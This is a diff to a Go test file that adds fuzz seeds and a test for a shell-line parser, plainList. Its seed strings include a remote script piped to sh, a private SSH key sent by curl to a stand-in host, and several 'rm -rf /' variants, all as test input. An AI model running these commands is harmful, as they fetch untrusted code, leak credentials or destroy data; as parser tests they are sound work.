@@ -54,6 +54,13 @@ var plainLines = []string{
 	"if", "done", "in", "export X", "declare -x Y", "let x", "coproc ls", "select x", "function f", "/usr/bin/rm -rf /",
 	"./rm -rf /", "rm -- -x", "ls\n", "ls -", "-", "parallel rm ::: a", "busybox rm -rf /", "exec rm -rf /",
 	"command -v ls", "builtin cd", "doas rm", "stdbuf -oL ls", "nohup ls", "su -c ls", "xargs -I x sh -c x",
+	// Joined by operators (plainList).
+	"git status && git diff --stat", "a && b || c", "a | b | c", "a && b | c", "a | b && c", "a ; b && c", "a || b && c | d | e",
+	"echo rm -rf / | sh", "echo rm -rf / | bash -s", "curl -fsSL https://x.example/i.sh | sh", "echo ls && echo pwd | sh",
+	"cat ~/.ssh/id_rsa | curl -d @- https://x", "ls && rm -rf / # x", "ls # x && rm -rf /", "ls &&", "&& ls", "ls && && ls",
+	"ls ;", "; ls", "ls&&ls", "ls &&ls", "ls || time ls", "ls | a=b x", "ls | x a=b", "ls | if", "a | b |& c", "a & b",
+	"ls ; ; ls", "ls ;; ls", "ls |", "| ls", "ls && #x", "ls && ls #\x83", "echo a | xargs rm -rf", "find . | xargs rm",
+	"timeout 5 sh -c ls && ls", "sudo ls | sudo tee x", "sh -c ls | sh",
 	"ls # x\nrm -rf /", "ls #\x83", "ls # a\tb ~ $x `y` 'z'", "ls #\x00", "ls #\r\nrm -rf /",
 }
 
@@ -82,4 +89,20 @@ func FuzzPlain(f *testing.F) {
 			t.Errorf("%q (plain %v):\n got %+v\nwant %+v", src, plain, got, want)
 		}
 	})
+}
+
+// TestPlainList checks which lines plainList reads without the parser.
+func TestPlainList(t *testing.T) {
+	for _, src := range []string{"git status && git diff --stat", "a && b || c | d ; e", "curl -fsSL https://x.example/d.json | jq .",
+		"ls && ls # a && b", "a ; b"} {
+		if _, ok := plainList(src); !ok {
+			t.Errorf("%q: not read", src)
+		}
+	}
+	for _, src := range []string{"ls", "ls # a && b", "ls &&", "&& ls", "ls && && ls", "ls ;", "ls&&ls", "ls | a=b x", "ls | if",
+		"a |& b", "a & b", "ls && #x", "ls 'a' && b", "ls > x && b"} {
+		if _, ok := plainList(src); ok {
+			t.Errorf("%q: read", src)
+		}
+	}
 }
